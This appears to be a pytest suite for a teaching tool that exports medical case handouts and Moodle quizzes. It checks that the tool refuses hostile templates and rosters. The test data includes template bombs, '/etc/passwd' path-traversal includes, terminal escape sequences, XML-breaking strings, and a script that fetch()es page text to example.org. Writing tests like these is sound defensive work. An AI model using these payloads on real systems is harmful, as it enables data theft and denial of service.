"""A bad day with the classroom documents: teacher-edited templates, messy rosters, hostile text.

Every check is what a teacher would notice: a clear error naming the file (exit 2) instead of a
hang, a crash or a page with raw control characters, and nothing written when a run is refused.
"""

from __future__ import annotations

import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import ROOT, run_cli, write

CASE = "electrician-finger-drop"
QUIZ = "introductory"


@pytest.fixture
def templates(tmp_path):
    folder = tmp_path / "templates"
    run_cli(["export", "--copy-templates", str(folder)])
    return folder


def append(path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


# ----------------------------------------------------------------------------- templates
@pytest.mark.parametrize("runaway", [
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for a in 'x' * 100000 %}{% for b in 'y' * 100000 %}{% endfor %}{% endfor %}",
    "{{ 7 ** 100000000 }}",
    "{{ 'x' * 10 ** 9 }}",
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
    "{{ 'x'|center(10 ** 9) }}{{ 'x'.ljust(10 ** 9) }}",
    "{% set big = 'x'.ljust(9000000) %}{% macro m() %}{% for i in range(1000) %}{{ big }}{% endfor %}{% endmacro %}{{ m() }}",
])
def test_a_runaway_template_is_stopped_with_its_file_and_line(templates, runaway):
    append(templates / "page.html.j2", runaway + "\n")
    started = time.monotonic()
    result = run_cli(["export", CASE, "--format", "html", "--templates", str(templates)], exit_code=2)
    assert time.monotonic() - started < 10
    assert "page.html.j2, line 41" in result.stderr and "too much" in result.stderr


def test_the_bundled_pages_fit_well_inside_the_template_budget(tmp_path):
    run_cli(["export", "--all", "--format", "html", "--answer-key", "--out", str(tmp_path / "keys")])
    assert len(list((tmp_path / "keys").glob("case-*-key.html"))) > 40


def test_a_template_cannot_change_the_data_the_next_paper_is_made_of(templates, tmp_path):
    append(templates / "page.md.j2", "{{ doc.sections.clear() }}\n")
    result = run_cli(["export", CASE, "--templates", str(templates)], exit_code=2)
    assert "page.md.j2, line 25" in result.stderr and "unsafe" in result.stderr


def test_a_template_that_is_not_utf8_is_named_not_a_crash(templates):
    with open(templates / "block.md.j2", "ab") as handle:
        handle.write(b"\xff\xfe caf\xe9\n")
    result = run_cli(["export", CASE, "--templates", str(templates)], exit_code=2)
    assert "block.md.j2" in result.stderr and "UTF-8" in result.stderr and "Traceback" not in result.stderr


def test_control_characters_a_template_writes_never_reach_the_terminal_or_the_xml(templates, tmp_path):
    append(templates / "page.md.j2", "{{ '\x1b]0;pwned\x07\x1b[2J' }}\x1b[31m\n")
    shown = run_cli(["export", CASE, "--templates", str(templates)]).stdout
    assert "\x1b" not in shown and "\x07" not in shown and "\\x1b" in shown
    moodle = templates / "moodle.xml.j2"
    moodle.write_text(moodle.read_text(encoding="utf-8").replace("<penalty>0</penalty>", "<penalty>0\x01</penalty>"),
                      encoding="utf-8")
    ET.fromstring(run_cli(["quiz", "export", QUIZ, "--seed", "1", "--templates", str(templates)]).stdout)


def test_a_moodle_template_that_breaks_the_xml_is_named_and_nothing_is_written(templates, tmp_path):
    moodle = templates / "moodle.xml.j2"
    moodle.write_text(moodle.read_text(encoding="utf-8").replace("<penalty>0</penalty>", "<penalty>0 & 1</penalty>"),
                      encoding="utf-8")
    out = tmp_path / "quiz.xml"
    result = run_cli(["quiz", "export", QUIZ, "--seed", "1", "--templates", str(templates), "--out", str(out)],
                     exit_code=2)
    assert "moodle.xml.j2" in result.stderr and "not well-formed XML" in result.stderr and not out.exists()


@pytest.mark.parametrize("edit", [
    ("</head>", "<script>fetch('https://example.org/?' + document.body.innerText)</script></head>"),
    ("<body", "<body onload=\"fetch('https://example.org')\""),
    ("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">", ""),
])
def test_a_page_template_that_would_run_code_or_fetch_is_refused(templates, tmp_path, edit):
    page = templates / "page.html.j2"
    page.write_text(page.read_text(encoding="utf-8").replace(*edit), encoding="utf-8")
    out = tmp_path / "handout.html"
    result = run_cli(["export", CASE, "--format", "html", "--templates", str(templates), "--out", str(out)],
                     exit_code=2)
    assert "page.html.j2" in result.stderr and not out.exists()


def test_a_template_that_drops_the_educational_use_notice_is_refused(templates, tmp_path):
    page = templates / "page.html.j2"
    page.write_text(page.read_text(encoding="utf-8").replace("{{ doc.notice }}", ""), encoding="utf-8")
    out = tmp_path / "handout.html"
    result = run_cli(["export", CASE, "--format", "html", "--templates", str(templates), "--out", str(out)],
                     exit_code=2)
    assert "page.html.j2" in result.stderr and "Educational use only" in result.stderr and not out.exists()
    page.write_text(page.read_text(encoding="utf-8").replace("</footer>", "{{ doc.notice|upper }}</footer>"),
                    encoding="utf-8")
    run_cli(["export", CASE, "--format", "html", "--templates", str(templates), "--out", str(out)])


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero (POSIX)")
def test_a_template_that_links_to_a_device_or_a_huge_file_is_refused_at_once(templates):
    (templates / "block.md.j2").unlink()
    (templates / "block.md.j2").symlink_to("/dev/zero")
    result = run_cli(["export", CASE, "--templates", str(templates)], exit_code=2)
    assert "block.md.j2" in result.stderr and "not a regular file" in result.stderr
    (templates / "block.md.j2").unlink()
    (templates / "block.md.j2").write_text("x" * 2_000_000, encoding="utf-8")
    assert "too big" in run_cli(["export", CASE, "--templates", str(templates)], exit_code=2).stderr


@pytest.mark.parametrize("reach", ["/etc/passwd", "../../../etc/passwd", "no-such.j2"])
def test_a_template_that_reaches_outside_its_folder_is_named_with_its_line(templates, reach):
    append(templates / "page.md.j2", f"{{% include '{reach}' %}}\n")
    result = run_cli(["export", CASE, "--templates", str(templates)], exit_code=2)
    assert "page.md.j2, line 25" in result.stderr and reach in result.stderr and "root:" not in result.stdout


def test_moodle_xml_of_hostile_case_text_parses_and_keeps_a_slash_in_the_quiz_title(tmp_path):
    cases = tmp_path / "cases"
    source = (ROOT / "cases" / f"{CASE}.yaml").read_text(encoding="utf-8")
    hostile = 'Evil ]]> <b>&amp; & < \\x01 ]]]]><![CDATA[ [bold]x[/bold]'
    write(cases / f"{CASE}.yaml", source.replace(
        "title: A 36-year-old electrician who can cock his wrist but cannot lift his fingers", f'title: "{hostile}"'))
    write(cases / "quizzes" / "week.yaml",
          f'version: 1\ntitle: "Week 1/2 ]]> & <i>"\ncases: [{CASE}]\n'
          f"questions:\n  - id: q1\n    kind: leaning\n    case: {CASE}\n    stage: history\n")
    text = run_cli(["--cases", str(cases), "quiz", "export", "week", "--variants", "2"]).stdout
    root = ET.fromstring(text)
    categories = [c.text for c in root.iter("text") if (c.text or "").startswith("$course$")]
    assert categories[0] == "$course$/top/mmn-ddx/Week 1//2 ]]> & <i> / seed 1"
    stem = next(root.iter("questiontext")).findtext("text")
    assert "Evil ]]&gt; &lt;b&gt;&amp;amp; &amp; &lt;" in stem and "<b>" not in stem and "Educational use only" in stem


# ----------------------------------------------------------------------------- rosters
def paper_run(tmp_path, roster_text: str, exit_code: int = 0, encoding: str = "utf-8"):
    roster = tmp_path / "class.csv"
    roster.write_bytes(roster_text.encode(encoding))
    out = tmp_path / "papers"
    return out, run_cli(["quiz", "paper", QUIZ, "--seed", "3", "--students", str(roster), "--format", "md",
                         "--out", str(out)], exit_code=exit_code)


@pytest.mark.parametrize("text", [
    "student;seat\r\nAda Lovelace;1\r\n\r\nBo Diddley;2\r\n",
    "\ufeffstudent\tseat\nAda Lovelace\t1\n\nBo Diddley\t2\n",
])
def test_a_roster_saved_with_semicolons_or_tabs_is_read(tmp_path, text):
    out, _ = paper_run(tmp_path, text)
    assert sorted(p.name for p in out.glob("paper-*")) == ["paper-ada-lovelace.md", "paper-bo-diddley.md"]


def test_two_students_who_draw_one_seed_share_a_key_and_the_message_counts_it_once(tmp_path):
    roster = write(tmp_path / "class.csv", "student\nS494\nS966\n")  # both draw seed 5964 from class seed 1
    result = run_cli(["quiz", "paper", QUIZ, "--seed", "1", "--students", str(roster), "--format", "md",
                      "--out", str(tmp_path / "papers")])
    assert "Wrote 2 papers and 1 answer key" in result.stderr
    assert sorted(p.name for p in (tmp_path / "papers").glob("key-*")) == ["key-seed-5964.md"]


def test_a_roster_saved_in_a_windows_encoding_is_refused_with_its_line(tmp_path):
    out, result = paper_run(tmp_path, "student\nAda\nJosé\n", exit_code=2, encoding="cp1252")
    assert "class.csv, line 3: is not UTF-8" in result.stderr and "CSV UTF-8" in result.stderr and not out.exists()


def test_names_that_share_a_file_name_are_refused_with_both_lines(tmp_path):
    out, result = paper_run(tmp_path, "student\nJosé Díaz\n\nJose Diaz\n", exit_code=2)
    assert "class.csv, line 4" in result.stderr and "line 2" in result.stderr and "jose-diaz" in result.stderr
    assert not out.exists()


def test_a_quoted_name_over_two_lines_keeps_the_line_numbers_and_an_endless_name_is_refused(tmp_path):
    _, result = paper_run(tmp_path, 'student\n"Ada\nLovelace"\nBo\n\nBo\n', exit_code=2)
    assert "class.csv, line 6: names 'Bo' again (first on line 4)" in result.stderr
    _, result = paper_run(tmp_path, "student\n" + "A" * 5000 + "\n", exit_code=2)
    assert "class.csv, line 2" in result.stderr and "5,000 characters" in result.stderr and len(result.stderr) < 400
    out, _ = paper_run(tmp_path, "student\n" + "Maria " * 30 + "\n")
    assert [len(p.name) <= len("paper-.md") + 60 for p in out.glob("paper-*")] == [True]


def test_control_characters_and_markup_in_a_name_reach_neither_the_terminal_nor_the_paper(tmp_path):
    evil = "\x1b]0;pwned\x07\x1b[31mEve [bold]Vil[/bold]"
    out, _ = paper_run(tmp_path, f"student\n{evil}\n")
    paper = next(out.glob("paper-*.md")).read_text(encoding="utf-8")
    assert "\x1b" not in paper and "\x07" not in paper and "Vil" in paper
    assert "\x1b" not in (out / "papers.csv").read_text(encoding="utf-8")
    _, twice = paper_run(tmp_path, f"student\n{evil}\n{evil}\n", exit_code=2)
    assert "\x1b" not in twice.stderr and "line 3" in twice.stderr


def test_a_class_is_written_all_or_nothing_and_a_refusal_comes_first(tmp_path):
    names = [f"Student {n:04d}" for n in range(30)]
    out, result = paper_run(tmp_path, "student\n" + "\n".join(names) + "\n")
    assert len(list(out.glob("paper-*.md"))) == 30
    (out / "paper-student-0020.md").write_text("marked by hand", encoding="utf-8")
    _, again = paper_run(tmp_path, "student\n" + "\n".join(names) + "\n", exit_code=2)
    assert "--force" in again.stderr
    assert (out / "paper-student-0020.md").read_text(encoding="utf-8") == "marked by hand"


# ----------------------------------------------------------------------------- outputs
def test_an_existing_deck_is_kept_and_the_message_speaks_of_a_file(tmp_path):
    deck = write(tmp_path / "deck.apkg", "my own deck")
    result = run_cli(["export", "--format", "anki", "--out", str(deck)], exit_code=2)
    assert deck.read_text(encoding="utf-8") == "my own deck"
    assert "replace it" in result.stderr and "folder" not in result.stderr


def test_options_an_export_cannot_honour_are_refused_not_ignored(tmp_path):
    one = write(tmp_path / "cases" / f"{CASE}.yaml", (ROOT / "cases" / f"{CASE}.yaml").read_text(encoding="utf-8")).parent
    run_cli(["--cases", str(one), "export", "--all", "--answer-key", "--prior", "0.5", "--out", str(tmp_path / "even")])
    run_cli(["--cases", str(one), "export", "--all", "--answer-key", "--out", str(tmp_path / "default")])
    even, default = ((tmp_path / folder / "case-01-key.md").read_text(encoding="utf-8") for folder in ("even", "default"))
    assert "0.50" in even and even != default
    assert "--prior" in run_cli(["export", "--all", "--prior", "0.5", "--out", str(tmp_path / "h")], exit_code=2).stderr
    for extra in (["--prior", "0.3"], ["--templates", str(tmp_path)]):
        result = run_cli(["export", "--format", "anki", "--out", str(tmp_path / "d.apkg"), *extra], exit_code=2)
        assert extra[0] in result.stderr and not (tmp_path / "d.apkg").exists()
    result = run_cli(["export", "--copy-templates", str(tmp_path / "t"), "--out", str(tmp_path / "x")], exit_code=2)
    assert "--copy-templates" in result.stderr and not (tmp_path / "t").exists()


def test_a_folder_in_the_way_of_one_handout_leaves_every_handout_unwritten(tmp_path):
    out = tmp_path / "handouts"
    (out / "case-03.md").mkdir(parents=True)
    write(out / "case-01.md", "my notes")
    result = run_cli(["export", "--all", "--out", str(out), "--force"], exit_code=2)
    assert "case-03.md" in result.stderr and "is a folder" in result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["case-01.md", "case-03.md"]
    assert (out / "case-01.md").read_text(encoding="utf-8") == "my notes"


def test_a_folder_path_through_a_file_names_the_file_in_the_way(tmp_path):
    write(tmp_path / "week1", "notes")
    result = run_cli(["export", "--copy-templates", str(tmp_path / "week1" / "templates")], exit_code=2)
    assert f"'{tmp_path / 'week1'}' is a file" in result.stderr
    assert (tmp_path / "week1").read_text(encoding="utf-8") == "notes"


def test_a_broken_template_fails_in_a_real_process_with_one_line_and_exit_2(templates):
    append(templates / "page.md.j2", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n")
    done = subprocess.run([sys.executable, "-m", "mmn_ddx", "export", CASE, "--templates", str(templates)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and done.stdout == ""
    assert "page.md.j2, line 25" in done.stderr and "Traceback" not in done.stderr
